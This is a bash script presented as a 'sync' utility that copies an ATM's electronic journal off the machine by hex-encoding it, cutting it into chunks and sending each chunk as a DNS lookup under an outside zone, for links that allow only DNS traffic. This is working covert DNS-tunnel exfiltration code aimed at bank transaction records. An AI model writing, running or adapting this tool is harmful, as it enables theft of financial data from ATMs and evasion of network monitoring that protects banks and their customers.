#!/usr/bin/env bash
# journal_dns_sync.sh - push the ATM electronic journal to the "sync
# collector" when the branch link only lets DNS through.
#
# The journal is hex-encoded, cut into label-sized chunks and each chunk is
# sent as a lookup under the collector zone.
#
# Usage: journal_dns_sync.sh [-j journal] [-z zone] [-d delay]

set -uo pipefail

JOURNAL="/opt/atm/journal/ej_current.txt"
ZONE="sync.example.net"
DELAY="0.2"
STATE_FILE="./.journal_dns_sync.state"

log() { echo "$(date '+%F %T') journal-dns-sync: $*" >&2; }

while getopts ":j:z:d:h" opt; do
    case "$opt" in
        j) JOURNAL="$OPTARG" ;;
        z) ZONE="$OPTARG" ;;
        d) DELAY="$OPTARG" ;;
        h|*) sed -n '2,8p' "$0"; exit 0 ;;
    esac
done

if [[ ! -r "$JOURNAL" ]]; then
    log "journal $JOURNAL not readable"
    exit 2
fi

resolver_tool() {
    if command -v dig >/dev/null 2>&1; then
        echo dig
    elif command -v nslookup >/dev/null 2>&1; then
        echo nslookup
    elif command -v host >/dev/null 2>&1; then
        echo host
    else
        echo none
    fi
}

chunk_journal() {
    # prints one chunk per line: <seq>.<hexdata>
    JOURNAL_TEXT="$(cat "$JOURNAL")" python3 -c '
import os
data = os.environ["JOURNAL_TEXT"].encode()
hexed = data.hex()
size = 60
for seq, start in enumerate(range(0, len(hexed), size)):
    print("%d.%s" % (seq, hexed[start:start + size]))
'
}

send_chunk() {
    local tool="$1" label="$2"
    local name="$label.$SESSION.$ZONE"
    case "$tool" in
        dig)      dig +short +time=2 +tries=1 "$name" A >/dev/null 2>&1 ;;
        nslookup) nslookup "$name" >/dev/null 2>&1 ;;
        host)     host -W 2 "$name" >/dev/null 2>&1 ;;
    esac
}

main() {
    local tool chunks total sent=0 line
    tool="$(resolver_tool)"
    if [[ "$tool" == none ]]; then
        log "no resolver tool available"
        exit 3
    fi
    SESSION="$(hostname -s | tr -cd 'a-z0-9' | cut -c1-12)$(date +%H%M)"
    chunks="$(chunk_journal)"
    total="$(printf '%s\n' "$chunks" | wc -l)"
    log "sending $total chunk(s) of $JOURNAL via $tool as session $SESSION"
    while IFS= read -r line; do
        [[ -z "$line" ]] && continue
        send_chunk "$tool" "$line"
        sent=$((sent + 1))
        if (( sent % 50 == 0 )); then
            log "$sent/$total chunks sent"
        fi
        sleep "$DELAY"
    done <<< "$chunks"
    send_chunk "$tool" "end.$total"
    printf '%s %s %s\n' "$(date +%s)" "$SESSION" "$sent" >> "$STATE_FILE"
    log "done: $sent chunk(s)"
}

main
